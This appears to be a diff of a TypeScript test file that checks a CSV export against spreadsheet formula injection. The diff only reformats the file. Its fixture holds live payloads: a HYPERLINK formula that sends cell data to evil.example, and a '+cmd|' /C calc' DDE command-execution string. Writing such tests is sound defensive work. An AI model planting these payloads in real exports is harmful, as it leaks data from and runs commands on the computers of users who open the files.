@@ -24,7 +24,7 @@ const download = async (path: string) => {
 const attacker = {
   slug: 'formula-co',
   name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
-  aliases: ['@SUM(1+1)', '-2+3', 'Formula Co', '+cmd|\' /C calc\'!A0'],
+  aliases: ['@SUM(1+1)', '-2+3', 'Formula Co', "+cmd|' /C calc'!A0"],
   description: '=1+1 is what this company says it is',
   kinds: ['AI_LAB'],
 }
@@ -46,7 +46,10 @@ beforeAll(async () => {
       input: {
         slug: 'formula-co-openai',
         title: '-Deal of the formula company',
-        parties: [{ company: attacker.slug, role: 'LICENSOR' }, { company: 'openai', role: 'LICENSEE' }],
+        parties: [
+          { company: attacker.slug, role: 'LICENSOR' },
+          { company: 'openai', role: 'LICENSEE' },
+        ],
         announcedOn: '2026-02',
         citations,
         clauses: [
@@ -76,7 +79,9 @@ const LIST_COLUMNS = new Set(['kinds', 'aliases'])
 function formulaCells(text: string): string[] {
   const header = parseCsv(text)[0]!
   return csvRecords(text)
-    .flatMap((record) => header.flatMap((column) => (LIST_COLUMNS.has(column) ? [record[column]!, ...record[column]!.split('; ')] : [record[column]!])))
+    .flatMap((record) =>
+      header.flatMap((column) => (LIST_COLUMNS.has(column) ? [record[column]!, ...record[column]!.split('; ')] : [record[column]!])),
+    )
     .filter((part) => FORMULA_START.test(part))
 }
 
